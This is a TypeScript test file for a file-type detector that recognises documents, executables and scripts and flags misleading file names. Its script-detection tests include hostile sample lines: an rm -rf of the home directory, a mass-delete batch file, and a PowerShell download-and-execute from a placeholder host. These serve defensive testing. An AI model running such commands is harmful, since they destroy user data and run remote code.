import { describe, expect, test } from 'vitest';
import { bytes } from '../../test/support/content.ts';
import {
  compound,
  docx,
  linuxProgram,
  macProgram,
  odt,
  pdf,
  png,
  windowsProgram,
  windowsShortcut,
} from '../../test/support/documents.ts';
import { zip } from '../../test/support/zip.ts';
import { identify } from './identify.ts';

const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(`\uFEFF${text}`, 'utf16le'));
const latin1 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));

describe('the type is told from the content', () => {
  test.each<[string, Uint8Array, string, string]>([
    ['a PDF', pdf(['Dag']), 'application/pdf', 'document'],
    ['a PDF behind other bytes', latin1('\n\n junk %PDF-1.4\n'), 'application/pdf', 'document'],
    ['a picture', png, 'image/png', 'image'],
    ['a Windows program', windowsProgram, 'application/x-msdownload', 'executable'],
    ['a Linux program', linuxProgram, 'application/x-elf', 'executable'],
    ['a macOS program', macProgram, 'application/x-mach-binary', 'executable'],
    ['a shortcut', windowsShortcut, 'application/x.ms.shortcut', 'executable'],
    [
      'an installer',
      new Uint8Array([...compound('x'), ...Buffer.from('84100c0000000000c000000000000046', 'hex')]),
      'application/x-msi',
      'executable',
    ],
    ['an old Word document', compound('WordDocument'), 'application/msword', 'document'],
    [
      'a Word document',
      docx(['Dag']),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'document',
    ],
    ['an OpenDocument text', odt(['Dag']), 'application/vnd.oasis.opendocument.text', 'document'],
    ['a zip file', zip([{ name: 'a.txt', content: bytes('a') }]), 'application/zip', 'archive'],
    ['a page', bytes('<!-- x --><!-- y -->\n<!DOCTYPE html><p>Dag'), 'text/html', 'document'],
    [
      'a drawing',
      bytes('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
      'image/svg+xml',
      'image',
    ],
    ['a mail', bytes('From: a@example.nl\r\nTo: b@example.nl\r\n\r\nDag'), 'message/rfc822', 'text'],
    ['text in UTF-8', bytes('Eén café, mevrouw.'), 'text/plain', 'text'],
    ['text in UTF-16', utf16('Eén café'), 'text/plain', 'text'],
    ['text in Windows-1252', latin1('Eén café kost \x80 3'), 'text/plain', 'text'],
    ['text that begins as a bitmap does', bytes('BMI van mevrouw: 24'), 'text/plain', 'text'],
    ['text that begins as a program does', bytes('MZ-nummer 12, gang 3'), 'text/plain', 'text'],
    ['nothing', bytes(''), 'application/x-empty', 'other'],
    ['noise', new Uint8Array([0, 1, 2, 3, 250, 251, 0, 9]), 'application/octet-stream', 'other'],
  ])('%s', async (_, content, mime, kind) => {
    expect(await identify(content)).toEqual({ mime, kind, mismatch: false });
  });

  test.each<[string, string]>([
    ['a shell script', '#!/bin/sh\nrm -rf "$HOME"\n'],
    ['a batch file', '@echo off\r\ndel *.*\r\n'],
    ['a batch file without its usual beginning', 'set X=1\r\nif exist c:\\a.txt goto end\r\n:end\r\n'],
    [
      'PowerShell',
      '$client = New-Object Net.WebClient\nInvoke-Expression $client.DownloadString("http://x")\n',
    ],
    ['VBScript', 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n'],
    ['JScript', 'var s = new ActiveXObject("WScript.Shell");'],
    ['JavaScript', 'const fs = require("fs");\nfunction weg() {\n  process.exit(1);\n}\n'],
    ['Python', 'import os\n\ndef weg():\n    os.remove("x")\n'],
    ['a page that is an application', '<html><hta:application id="x"><script>1</script></html>'],
    ['an internet shortcut', '[InternetShortcut]\r\nURL=file://server/x.exe\r\n'],
    ['a registry file', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n'],
  ])('%s is a script', async (_, text) => {
    expect((await identify(bytes(text))).kind).toBe('script');
    expect((await identify(utf16(text))).kind).toBe('script');
  });

  test.each([
    'Geachte mevrouw,\n\nDe uitslag is binnen. Let op: kom nuchter.\n\nMet vriendelijke groet',
    'Import: zie bijlage\nFrom the desk of dr. Jansen\n\n1. Set de wekker\n2. Bel 112',
    'datum;naam;bsn\n01-01-2026;Jansen;123456782\n',
    '{"v": 1, "window": "open", "let": 3}',
    'De functie (x) => y wordt in het document beschreven.',
  ])('an ordinary text is no script: %j', async (text) => {
    expect((await identify(bytes(text))).kind).toBe('text');
  });
});

describe('a name', () => {
  test.each<[string, Uint8Array]>([
    ['verslag.pdf', windowsProgram],
    ['verslag.pdf', bytes('Dag')],
    ['foto.jpg', png],
    ['brief.docx', zip([{ name: 'a.txt', content: bytes('a') }])],
    ['notitie.txt', bytes('#!/bin/sh\n')],
    ['notitie.txt', png],
    ['iets.xyz', linuxProgram],
  ])('that lies is seen: %s', async (name, content) => {
    expect(await identify(content, name)).toMatchObject({ mismatch: true });
  });

  test.each<[string, Uint8Array]>([
    ['verslag.pdf', pdf(['Dag'])],
    ['VERSLAG.PDF', pdf(['Dag'])],
    ['foto.png', png],
    ['brief.docx', docx(['Dag'])],
    ['oud.doc', compound('WordDocument')],
    ['notitie.txt', bytes('Dag')],
    ['lijst.csv', bytes('a;b')],
    ['setup.exe', windowsProgram],
    ['zonder-extensie', png],
    ['meting.xyz', png],
  ])('that tells the truth is not held against it: %s', async (name, content) => {
    expect(await identify(content, name)).toMatchObject({ mismatch: false });
  });

  test.each<[string, string]>([
    ['doe.bat', 'script'],
    ['doe.bat . ', 'script'],
    ['factuur.pdf.js', 'script'],
    ['test.com', 'executable'],
    ['foto.SCR', 'executable'],
  ])('that a machine would run makes it so: %s', async (name, kind) => {
    expect(await identify(bytes('zomaar tekst'), name)).toMatchObject({ kind });
  });

  test('never makes a program harmless', async () => {
    expect(await identify(windowsProgram, 'foto.jpg')).toEqual({
      mime: 'application/x-msdownload',
      kind: 'executable',
      mismatch: true,
    });
  });
});

test.each([
  ['empty lines', '\n'],
  ['spaces', ' '],
  ['comments', '<!---->'],
  ['half comments', '<!--'],
  ['functions', 'function '],
  ['brackets', '(a, '],
  ['assignments', 'let a '],
  ['dollars', '$a'],
])('a text of %s is told in bounded time', async (_, piece) => {
  const started = performance.now();
  await identify(bytes(piece.repeat(65_536 / piece.length)));
  expect(performance.now() - started).toBeLessThan(1_500);
});
